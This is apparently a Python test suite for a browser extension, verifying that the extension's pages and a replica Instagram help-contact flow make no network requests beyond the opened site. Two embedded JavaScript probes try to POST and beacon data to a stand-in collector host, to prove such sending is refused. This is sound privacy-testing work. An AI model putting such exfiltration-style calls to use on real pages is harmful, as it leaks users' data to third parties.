"""Everything that the browser asks of the network goes through the test's own proxy: nothing of it is asked by the extension."""

from __future__ import annotations

from builder.browsers.page_session import Driven
from builder.replica import pages as replica

PAGES = ("welcome", "popup", "settings", "letters", "journal", "report", "about")
OF_THE_BROWSER = (
    "mozilla.com",
    "mozilla.net",
    "mozilla.org",
    "firefox.com",
    "google.com",
    "gstatic.com",
    "googleapis.com",
    "gvt1.com",
)
"""What browsers ask for themselves, whatever extension is in them; the proxy refuses it."""
_FETCH = """async (address) => {
  try { await fetch(address, { method: 'POST', body: 'x', mode: 'no-cors' }); return 'sent'; } catch { return 'refused'; }
}"""
_OTHERS = """async (address) => {
  const image = new Image();
  const ended = new Promise((done) => { image.onload = image.onerror = done; });
  image.src = address;
  await ended;
  return navigator.sendBeacon(`${address}?beacon`, 'x');
}"""


def _site(url: str) -> str:
    return ".".join(url.split("/")[2].split(":")[0].split(".")[-2:])


def test_the_whole_journey_asks_for_nothing_but_the_page_that_the_person_opened(
    meet: Driven,
) -> None:
    since = len(meet.site.asked)
    page = replica.page("classic-2024")
    meet.control.stop_shared_engine()  # the page boots an engine of its own
    meeting = meet.page(page)
    meeting.until("filled")
    for name in PAGES:
        ours = meet.window()
        ours.go(meet.control.browser.extension_page(f"{name}/{name}.html"))
        ours.window.wait(
            "() => !document.body.hasAttribute('data-waiting') && !document.querySelector('[aria-busy=true]')"
        )
    meet.sends = 1
    meeting.window.click("button[type=submit]")
    meeting.until("code_needed")
    asked = [one for one in meet.site.asked[since:] if _site(one.url) not in OF_THE_BROWSER]
    assert page.url in [one.url for one in asked]
    assert {_site(one.url) for one in asked} == {"instagram.com"}
    # The page itself, what its own markup names, and what the person sent.
    assert {one.url.split("/", 3)[3].split("?")[0] for one in asked} == {
        page.url.split("/", 3)[3],
        "replica/replica.css",
        "replica/classic.js",
        "ajax/help/contact/submit/page",
    }


def test_no_page_of_ours_could_send_anything_if_it_wanted_to(meet: Driven) -> None:
    since = len(meet.site.asked)
    target = "https://collector.example/take"
    meet.site.serve(target, "taken")
    for name in PAGES:
        ours = meet.window()
        ours.go(meet.control.browser.extension_page(f"{name}/{name}.html"))
        assert ours.window.run(_FETCH, target) == "refused"
        ours.window.run(_OTHERS, target)
    assert [one.url for one in meet.site.asked[since:] if "collector" in one.url] == []


def test_the_proxy_would_have_seen_it(meet: Driven) -> None:
    since = len(meet.site.asked)
    meeting = meet.page(replica.page("article"))
    target = "https://collector.example/take"
    meet.site.serve(target, "taken")
    assert meeting.window.run(_FETCH, target) == "sent"
    assert [one.url for one in meet.site.asked[since:] if "collector" in one.url] == [target]
